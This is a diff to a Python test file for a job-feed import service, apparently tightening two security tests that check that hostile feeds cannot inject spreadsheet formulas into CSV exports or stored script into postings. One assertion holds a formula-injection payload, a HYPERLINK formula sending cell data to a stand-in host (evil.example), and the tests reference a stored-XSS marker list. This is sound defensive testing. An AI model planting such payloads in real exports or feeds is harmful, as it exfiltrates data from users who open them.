@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
@@ -19,6 +18,7 @@ from jobyard_worker.tasks.kinds.export_jobs_csv import cell
 from pymongo import MongoClient
 
 from tests.support.feed_server import FeedServer
+from tests.support.imports import wait_import
 from tests.support.processes import bin_path
 from tests.support.stack import Stack
 from tests.support.tasks import wait_execution
@@ -67,17 +67,13 @@ async def test_a_feed_cannot_plant_formulas_in_an_export(stack: Stack, hostile_f
         assert (await api.post("/api/v1/feed-sources", json={"url": url})).status_code == 201
         started = await api.post("/api/v1/imports", json={"feedUrls": [url]})
         assert started.status_code == 202, started.text
+        [log_id] = started.json()["importLogIds"]
+        assert (await wait_import(api, log_id))["status"] == "completed"
         export = await api.post(
             "/api/v1/tasks", json={"name": "e", "kind": "export-jobs-csv", "payload": {"feedUrl": url}}
         )
-        # the export may run before the import lands: run it until it sees the posting
-        for _ in range(100):
-            done = await wait_execution(api, admin, export.json()["executionId"])
-            if done["result"]["rows"] == 1:
-                break
-            export = await api.post(
-                "/api/v1/tasks", json={"name": "e", "kind": "export-jobs-csv", "payload": {"feedUrl": url}}
-            )
+        done = await wait_execution(api, admin, export.json()["executionId"])
+        assert done["result"]["rows"] == 1, done
         download = await api.get(f"/api/v1/executions/{done['id']}/artifact")
     [row] = list(csv.DictReader(io.StringIO(download.text)))
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Apply")'
@@ -125,13 +121,12 @@ async def test_a_feed_cannot_plant_script_in_a_posting(stack: Stack, hostile_fee
     admin = stack.auth.admin_headers()
     async with httpx.AsyncClient(base_url=stack.api, timeout=30, headers=admin) as api:
         assert (await api.post("/api/v1/feed-sources", json={"url": url})).status_code == 201
-        assert (await api.post("/api/v1/imports", json={"feedUrls": [url]})).status_code == 202
-        for _ in range(300):
-            listed = (await api.get("/api/v1/jobs", params={"feedUrl": url})).json()
-            if listed["total"]:
-                break
-            await asyncio.sleep(0.05)
-        [job] = listed["items"]
+        started = await api.post("/api/v1/imports", json={"feedUrls": [url]})
+        assert started.status_code == 202, started.text
+        [log_id] = started.json()["importLogIds"]
+        log = await wait_import(api, log_id)
+        assert log["status"] == "completed", log
+        [job] = (await api.get("/api/v1/jobs", params={"feedUrl": url})).json()["items"]
         detail = (await api.get(f"/api/v1/jobs/{job['id']}")).json()
     html = detail["description"]
     assert not [marker for marker in STORED_XSS if marker in html.lower()], html
